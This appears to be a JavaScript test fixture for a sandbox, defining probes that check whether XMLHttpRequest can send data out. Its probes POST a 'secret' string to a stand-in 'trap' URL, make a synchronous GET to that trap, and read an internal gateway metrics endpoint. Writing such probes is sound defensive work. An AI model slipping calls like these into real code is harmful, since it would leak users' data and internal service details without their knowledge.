// Sends data out with XMLHttpRequest.
import { probes } from './lib/attack.js';

export default probes(({ trap, gateway }) => ({
  async: () => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.onload = done;
    request.onerror = failed;
    request.open('POST', trap);
    request.send('secret');
  }),
  sync: () => {
    const request = new XMLHttpRequest();
    request.open('GET', trap, false);
    request.send();
    return request.status;
  },
  gateway: () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${gateway}/_mesh/metrics`, false);
    request.send();
    return request.responseText;
  },
}));
